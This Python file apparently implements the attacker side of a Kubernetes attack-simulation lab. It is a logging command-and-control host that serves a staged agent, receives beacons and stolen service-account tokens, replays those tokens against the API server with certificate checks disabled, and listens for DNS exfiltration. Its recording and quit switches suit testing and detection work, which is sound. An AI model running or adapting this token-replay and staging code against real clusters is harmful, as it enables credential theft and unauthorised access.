"""The attacker's host: a process in its own network namespace that serves the agent, listens, and writes down all.

``python3 host.py --state DIR --address A --port P --dns-port D --api-url URL``, standard library only. Agents speak
lines of JSON over TCP; each is answered by one line, ``{"quit": ...}``. A file ``quit/ATTACK`` in the state folder
makes it answer that the agent must end. The kinds of records are described in ``records.py``.
"""

from __future__ import annotations

import argparse
import http.client
import json
import os
import re
import secrets
import signal
import socketserver
import ssl
import threading
import time
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

Record = dict[str, Any]

FILE = "requests.jsonl"
ATTACK_ID = re.compile(r"[0-9a-f]{8}")
AGENT = Path(__file__).with_name("agent.py")
LIFETIME = 900.0
API_INTERVAL = 1.0
API_TIMEOUT = 1.0
FIRST_LINE_SECONDS = 1.0
SILENCE_SECONDS = 60.0
LONGEST_LINE = 64 * 1024
SHOWN_TEXT = 200
CONFIGMAPS = ("GET", "/api/v1/namespaces/bank/configmaps", None)
WHOAMI = (
    "POST",
    "/apis/authentication.k8s.io/v1/selfsubjectreviews",
    json.dumps({"apiVersion": "authentication.k8s.io/v1", "kind": "SelfSubjectReview"}),
)


class Recorder:
    """Appends records to ``requests.jsonl``; safe for several threads."""

    def __init__(self, folder: Path) -> None:
        self._file = (folder / FILE).open("a", buffering=1)
        self._lock = threading.Lock()

    def __call__(self, kind: str, **fields: object) -> None:
        with self._lock:
            nanoseconds = time.time_ns()
            moment = datetime.fromtimestamp(nanoseconds / 1e9, UTC)
            stamp = moment.isoformat(timespec="microseconds").replace("+00:00", "Z")
            self._file.write(json.dumps({"t": nanoseconds / 1e9, "time": stamp, "kind": kind, **fields}) + "\n")


class TokenUser:
    """Uses stolen tokens against the API server, once a second each, until their attack ends."""

    def __init__(self, api_url: str, record: Recorder, ended: Callable[[str], bool]) -> None:
        address = urlsplit(api_url)
        self._host, self._port = address.hostname or "", address.port
        # An attacker does not mind who answers.
        self._tls = ssl.create_default_context()
        self._tls.check_hostname = False
        self._tls.verify_mode = ssl.CERT_NONE
        self._record = record
        self._ended = ended
        self._tokens: dict[str, str] = {}
        self._lock = threading.Lock()

    def use(self, attack: str, token: str) -> None:
        with self._lock:
            known = attack in self._tokens
            self._tokens[attack] = token
        if not known:
            threading.Thread(target=self._run, args=(attack,), daemon=True).start()

    def _run(self, attack: str) -> None:
        deadline = time.monotonic() + LIFETIME
        while time.monotonic() < deadline and not self._ended(attack):
            started = time.monotonic()
            self._try(attack, "configmaps", *CONFIGMAPS)
            self._try(attack, "whoami", *WHOAMI)
            time.sleep(max(0.0, started + API_INTERVAL - time.monotonic()))

    def _try(self, attack: str, request: str, method: str, path: str, body: str | None) -> None:
        started = time.monotonic()
        result: Record = {"status": None, "user": None, "token_pod": None, "error": None}
        connection = http.client.HTTPSConnection(self._host, self._port, timeout=API_TIMEOUT, context=self._tls)
        headers = {"Authorization": f"Bearer {self._tokens[attack]}", "Content-Type": "application/json"}
        try:
            connection.request(method, path, body, headers)
            answer = connection.getresponse()
            content = answer.read()
            result["status"] = answer.status
            if request == "whoami" and answer.status == 201:
                user = json.loads(content)["status"]["userInfo"]
                result["user"] = user["username"]
                result["token_pod"] = next(
                    iter(user.get("extra", {}).get("authentication.kubernetes.io/pod-name", ())), None
                )
        except (OSError, http.client.HTTPException, ValueError) as error:
            result["error"] = f"{type(error).__name__}: {error}"[:SHOWN_TEXT]
        finally:
            connection.close()
        milliseconds = round((time.monotonic() - started) * 1000, 1)
        self._record("api", attack=attack, request=request, **result, ms=milliseconds)


class Host(socketserver.ThreadingTCPServer):
    """The TCP side. Its ``state`` folder holds records, tokens and quit marks."""

    daemon_threads = True
    allow_reuse_address = True
    block_on_close = False
    request_queue_size = 256

    def __init__(self, address: tuple[str, int], state: Path, api_url: str) -> None:
        self.state = state
        for folder in ("tokens", "quit"):
            (state / folder).mkdir(mode=0o700, exist_ok=True)
        self.record = Recorder(state)
        self.token_user = TokenUser(api_url, self.record, self.ended)
        super().__init__(address, Connection)

    def ended(self, attack: str) -> bool:
        return (self.state / "quit" / attack).exists()

    def handle_error(self, request: Any, client_address: Any) -> None:
        # A peer that was cut off: what matters is on record already.
        pass


class Connection(socketserver.StreamRequestHandler):
    """One TCP connection: lines of JSON from an agent, or a request for the agent itself."""

    server: Host

    def handle(self) -> None:
        self.source = "{}:{}".format(*self.client_address[:2])
        self.connection_id = secrets.token_hex(4)
        line = self._first_line()
        if line.startswith(b"GET /stage "):
            self._serve_agent()
            return
        if not line:
            self.server.record("other", source=self.source, text="")
        while line and self._answer(line):
            line = self.rfile.readline(LONGEST_LINE)

    def _first_line(self) -> bytes:
        """Empty when the peer says nothing: a probe that only connects is on record at once."""
        self.connection.settimeout(FIRST_LINE_SECONDS)
        try:
            line: bytes = self.rfile.readline(LONGEST_LINE)
        except OSError:
            return b""
        self.connection.settimeout(SILENCE_SECONDS)
        return line

    def _serve_agent(self) -> None:
        self.server.record("stage", source=self.source)
        content = AGENT.read_bytes()
        head = f"HTTP/1.0 200 OK\r\nContent-Type: text/x-python\r\nContent-Length: {len(content)}\r\n\r\n"
        self.wfile.write(head.encode() + content)

    def _answer(self, line: bytes) -> bool:
        """Records one line and replies. Returns whether the connection goes on."""
        message = _message(line)
        if message is None:
            text = line[:SHOWN_TEXT].decode(errors="backslashreplace")
            self.server.record("other", source=self.source, text=text)
            return False
        attack, pod = message["attack"], message["pod"]
        who = {"attack": attack, "pod": pod, "source": self.source}
        match message["kind"]:
            case "beacon":
                fields = {"connection": self.connection_id, "sent": message.get("sent"), "cause": message.get("cause")}
                self.server.record("beacon", **who, **fields)
            case "flow":
                fields = {"connection": self.connection_id, "sent": message.get("sent"), "n": message.get("n")}
                self.server.record("flow", **who, **fields)
            case "scan":
                self.server.record("scan", **who, answered=message.get("answered"), asked=message.get("asked"))
            case "token":
                self._take_token(who, str(message.get("token", "")))
        ended = self.server.ended(attack)
        if ended:
            self.server.record("quit", **who)
        self.wfile.write(json.dumps({"quit": ended}).encode() + b"\n")
        return not ended

    def _take_token(self, who: dict[str, str], token: str) -> None:
        file = self.server.state / "tokens" / who["attack"]
        with os.fdopen(os.open(file, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600), "w") as opened:
            opened.write(token)
        self.server.record("token", **who, bytes=len(token))
        self.server.token_user.use(who["attack"], token)


def _message(line: bytes) -> Record | None:
    """An agent's message, or None for anything else (the attack's id becomes a file name, so it must be one)."""
    try:
        message = json.loads(line)
    except ValueError:
        return None
    if not isinstance(message, dict) or message.get("kind") not in ("beacon", "flow", "scan", "token"):
        return None
    if not ATTACK_ID.fullmatch(str(message.get("attack"))) or not isinstance(message.get("pod"), str):
        return None
    return message


class DnsListener(socketserver.UDPServer):
    """Takes queries and never answers: who asks here is exfiltrating."""

    allow_reuse_address = True

    def __init__(self, address: tuple[str, int], record: Recorder) -> None:
        self.record = record
        super().__init__(address, _Query)


class _Query(socketserver.BaseRequestHandler):
    server: DnsListener

    def handle(self) -> None:
        packet: bytes = self.request[0]
        source = "{}:{}".format(*self.client_address[:2])
        self.server.record("dns", source=source, name=query_name(packet))


def query_name(packet: bytes) -> str:
    """The first question's name (RFC 1035, section 4.1.2), as far as the packet goes."""
    labels, position = [], 12
    while position < len(packet) and 0 < packet[position] < 64:
        length = packet[position]
        labels.append(packet[position + 1 : position + 1 + length].decode("ascii", "backslashreplace"))
        position += 1 + length
    return ".".join(labels)


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("--state", type=Path, required=True)
    parser.add_argument("--address", required=True)
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--dns-port", type=int, required=True)
    parser.add_argument("--api-url", required=True)
    arguments = parser.parse_args()
    stops = {signal.SIGTERM, signal.SIGINT}
    signal.pthread_sigmask(signal.SIG_BLOCK, stops)  # Before any thread: they inherit it.
    host = Host((arguments.address, arguments.port), arguments.state, arguments.api_url)
    names = DnsListener((arguments.address, arguments.dns_port), host.record)
    for server in (host, names):
        threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.2}, daemon=True).start()
    host.record("host", pid=os.getpid(), address=arguments.address, port=host.server_address[1])
    signal.sigwait(stops)


if __name__ == "__main__":
    main()
